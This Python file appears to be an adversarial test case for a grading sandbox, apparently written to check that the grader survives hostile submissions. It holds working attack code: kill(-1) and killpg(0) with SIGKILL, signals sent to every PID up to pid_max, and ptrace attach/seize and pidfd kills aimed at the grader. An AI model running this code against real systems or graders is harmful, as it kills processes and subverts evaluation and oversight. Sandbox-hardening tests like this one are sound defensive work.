"""Attack: signals and ptrace aimed at the grader, around correct code. kill(-1), killpg(0), a
kill of every pid it can name (the ones /proc lists and every number the kernel may hand out:
below its pid_max, at most 100000; the test's own pid included), pidfd signals, PTRACE_ATTACH /
PTRACE_SEIZE on each; then the reference's work. If nothing of the grader was reached, every
check passes as it does for the reference."""

import ctypes
import os
import signal
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import attack_kit  # noqa: E402

LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206


def confined() -> bool:
    """kill(-1) as the host's root would stop every process of this machine: only fire when the
    sandbox's user namespace is in place (the output says so otherwise, and the test fails)."""
    with open("/proc/self/uid_map") as f:
        if "4294967295" in f.read():
            print("ATTACK RAN UNCONFINED")
            return False
    return True


def attack() -> list:
    reached = []
    if not confined():
        return reached
    me = os.getpid()
    pids = {int(p) for p in os.listdir("/proc") if p.isdigit()} | set(range(1, _pid_max()))
    pids |= set(attack_kit.TARGETS.get("pids", []))
    pids.discard(me)
    for sig in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        if attack_kit.attempt(os.kill, -1, sig) is None:
            reached.append(("kill(-1)", sig))
    for pid in sorted(pids):
        for sig in (signal.SIGKILL, signal.SIGSTOP):
            if attack_kit.attempt(os.kill, pid, sig) is None:
                reached.append((pid, sig))
        if pid < 2000:
            if LIBC.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
                reached.append((pid, "ptrace"))
            if LIBC.ptrace(PTRACE_SEIZE, pid, 0, 0) == 0:
                reached.append((pid, "seize"))
            fd = attack_kit.attempt(os.pidfd_open, pid)
            if isinstance(fd, int):
                attack_kit.attempt(signal.pidfd_send_signal, fd, signal.SIGKILL)
    _strike_own_group()
    return reached


def _pid_max() -> int:
    """No process can have a pid from pid_max on: killing those numbers reaches nothing."""
    try:
        with open("/proc/sys/kernel/pid_max") as f:
            return min(int(f.read()), 100_000)
    except (OSError, ValueError):
        return 100_000


def _strike_own_group() -> None:
    """SIGKILL to the process group this process was started in (killpg(0) reaches every process
    of the group, in whatever pid namespace, that this uid may signal), from a child left in it,
    while this process moves to a group of its own so as not to kill itself."""
    child = os.fork()
    if child == 0:
        time.sleep(0.2)  # the parent has left the group by now
        attack_kit.attempt(os.killpg, 0, signal.SIGKILL)
        os._exit(0)
    attack_kit.attempt(os.setpgid, 0, 0)
    attack_kit.attempt(os.waitpid, child, 0)
